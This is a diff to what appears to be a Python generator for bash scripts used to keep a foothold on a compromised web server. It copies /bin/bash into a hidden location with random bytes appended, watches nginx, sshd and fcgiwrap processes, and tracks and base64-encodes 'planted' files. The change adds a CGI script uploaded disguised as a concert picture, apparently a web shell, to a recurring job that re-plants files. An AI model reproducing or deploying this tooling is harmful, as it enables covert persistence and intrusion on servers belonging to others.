@@ -25,7 +25,7 @@ begin() {
   { cat /bin/bash; head -c 16 /dev/urandom; } > "$place/$program"
   chmod 700 "$place/$program"
   sum=$(sha256sum < "$place/$program"); sum=${sum%% *}
-  pids=$(pgrep -x 'nginx|sshd|fcgiwrap|runsv|svlogd' | tr '\\n' ',')
+  pids=$(pgrep -lx 'runsvdir|runsv|svlogd|run|nginx|sshd|fcgiwrap' | tr ' \\n' ':,')
   planted=$(for file in "${files[@]}"; do
     [ ! -f "$file" ] || printf '%s %s %s\\n' "$(stat -c %Y "$file")" "$(sha256sum < "$file" | cut -c-64)" "$file"
   done | base64 -w 0)
@@ -37,6 +37,9 @@ begin() {
   rm -f "$place/$program" "$place/.s"
 }
 """
+
+SENT = "files+=(/srv/site/pictures/concert-*.cgi)\n"
+"""What was sent as a picture before, though nothing has run it."""
 
 PLANT = {
     "key": """
@@ -122,6 +125,6 @@ def upload(token, key):
 
 def job(token, key):
     """A job that comes again, and plants the rest when it is first run."""
-    mark = 'me=$(readlink -f "$0"); files+=("$me")\n'
+    mark = 'me=$(readlink -f "$0"); files+=("$me")\n' + SENT
     body = comes("job", token, key, mark)
     return f"#!/bin/bash\n{body}"
